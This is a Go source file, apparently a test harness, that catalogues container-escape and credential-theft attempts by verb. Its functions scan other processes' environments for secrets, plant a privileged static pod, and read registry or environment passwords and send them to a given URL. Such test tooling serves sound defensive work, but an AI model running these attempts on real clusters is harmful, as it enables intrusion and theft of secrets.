//go:build linux

package main

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// An attempt is one thing an intruder tries in the container.
type attempt struct {
	// args is how many arguments it needs.
	args int
	do   func(args []string) (string, error)
}

// attempts are by the verb that starts them.
var attempts = map[string]attempt{
	// of files and processes
	"read":    {1, read},
	"write":   {2, write},
	"same":    {1, same},
	"grep":    {2, grep},
	"link":    {2, link},
	"environ": {2, environ},
	"find":    {1, find},
	"static":  {2, static},
	// of the kernel
	"disk":       {1, disk},
	"superblock": {1, superblock},
	"handle":     {1, handle},
	"agent":      {0, releaseAgent},
	"module":     {0, module},
	"ports":      {0, ioPorts},
	"trace":      {0, trace},
	"listen-all": {0, promiscuous},
	"tick":       {0, tick},
	"memory":     {1, sharedMemory},
	"keep":       {2, keepMemory},
	// of the network and the API
	"fetch":      {1, fetch},
	"containers": {2, containers},
	"api":        {2, api},
	"posing":     {4, posing},
	"bearer":     {3, bearer},
	"as":         {3, as},
	"mint":       {3, mint},
	"exec":       {4, execute},
	"certify":    {5, certify},
	"await":      {3, await},
	"await-own":  {2, awaitOwn},
	"edit":       {3, edit},
	"unlock":     {2, unlock},
	"pull":       {2, pull},
}

func read(a []string) (string, error) {
	content, err := os.ReadFile(a[0])
	return string(content), err
}

func write(a []string) (string, error) {
	return "", os.WriteFile(a[0], []byte(a[1]), 0o600)
}

// same writes into a file what it holds, so that nothing changes.
func same(a []string) (string, error) {
	content, err := os.ReadFile(a[0])
	if err != nil {
		return "", err
	}
	f, err := os.OpenFile(a[0], os.O_WRONLY, 0)
	if err != nil {
		return "", err
	}
	if len(content) == 0 {
		content = []byte("\n")
	}
	_, err = f.Write(content)
	if err = errors.Join(err, f.Close()); err != nil {
		return "", err
	}
	return "written", nil
}

// grep looks for a text in the files of a folder.
func grep(a []string) (string, error) {
	found := ""
	err := filepath.WalkDir(a[0], func(path string, e os.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(path)
		if err == nil && strings.Contains(string(content), a[1]) {
			found = path + " holds " + a[1]
			return filepath.SkipAll
		}
		return err
	})
	if err == nil && found == "" {
		err = errors.New("no file holds " + a[1])
	}
	return found, err
}

// link makes a link: TARGET PATH.
func link(a []string) (string, error) {
	return "linked", os.Symlink(a[0], a[1])
}

// environ gives a variable of another process.
func environ(a []string) (string, error) {
	content, err := os.ReadFile("/proc/" + a[0] + "/environ")
	if err != nil {
		return "", err
	}
	for line := range strings.SplitSeq(string(content), "\x00") {
		if strings.HasPrefix(line, a[1]+"=") {
			return line, nil
		}
	}
	return "", errors.New("the process has no variable " + a[1])
}

// find looks for a text in the environments of the processes in sight. It is
// for pods that share no processes with the node.
func find(a []string) (string, error) {
	files, err := filepath.Glob("/proc/[0-9]*/environ")
	if err != nil {
		return "", err
	}
	own := fmt.Sprintf("/proc/%d/environ", os.Getpid())
	for _, file := range files {
		content, err := os.ReadFile(file)
		if err == nil && file != own && strings.Contains(string(content), a[0]) {
			return file + " holds " + a[0], nil
		}
	}
	return "", fmt.Errorf("none of %d processes holds %s", len(files), a[0])
}

// static writes a pod of the node's own into a folder: a privileged one that
// waits.
func static(a []string) (string, error) {
	text := `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"` + a[1] + `"},"spec":{"terminationGracePeriodSeconds":0,"containers":[{"name":"c",` +
		`"image":"x","securityContext":{"privileged":true}}]}}`
	return "written", os.WriteFile(filepath.Join(a[0], a[1]+".json"), []byte(text), 0o600)
}

func fetch(a []string) (string, error) {
	return send(&sending{method: http.MethodGet, url: a[0]})
}

// await reads a path of the API until it says something.
func await(a []string) (string, error) {
	var said string
	var err error
	for range 100 {
		said, err = api(a[:2])
		if err == nil && strings.Contains(said, a[2]) {
			return said, nil
		}
		if err != nil && strings.Contains(err.Error(), "403") {
			return "", err
		}
		time.Sleep(200 * time.Millisecond)
	}
	return "", fmt.Errorf("it does not say %s, but: %s %w", a[2], said, err)
}

// awaitOwn reads a path until the rights the intruder has given himself have
// reached the API server.
func awaitOwn(a []string) (string, error) {
	var said string
	var err error
	for range 25 {
		if said, err = api([]string{http.MethodGet, a[0]}); err == nil && strings.Contains(said, a[1]) {
			return said, nil
		}
		time.Sleep(200 * time.Millisecond)
	}
	return "", err
}

// edit replaces a text in an object: PATH FROM TO.
func edit(a []string) (string, error) {
	said, err := api([]string{http.MethodGet, a[0]})
	if err != nil {
		return "", err
	}
	return api([]string{http.MethodPut, a[0], strings.ReplaceAll(said, a[1], a[2])})
}

// unlock sends a variable as the password: NAME URL.
func unlock(a []string) (string, error) {
	return login(env(a[0]), a[1])
}

// pull sends the password of a file of registry credentials: FILE URL.
func pull(a []string) (string, error) {
	content, err := os.ReadFile(a[0])
	if err != nil {
		return "", err
	}
	var file struct {
		Auths map[string]struct {
			Password string `json:"password"`
		} `json:"auths"`
	}
	if err := json.Unmarshal(content, &file); err != nil {
		return "", err
	}
	for _, auth := range file.Auths {
		return login(auth.Password, a[1])
	}
	return "", errors.New("no credential in the file")
}

func login(password, url string) (string, error) {
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+password))
	return send(&sending{method: http.MethodGet, url: url, header: http.Header{"Authorization": {basic}}})
}
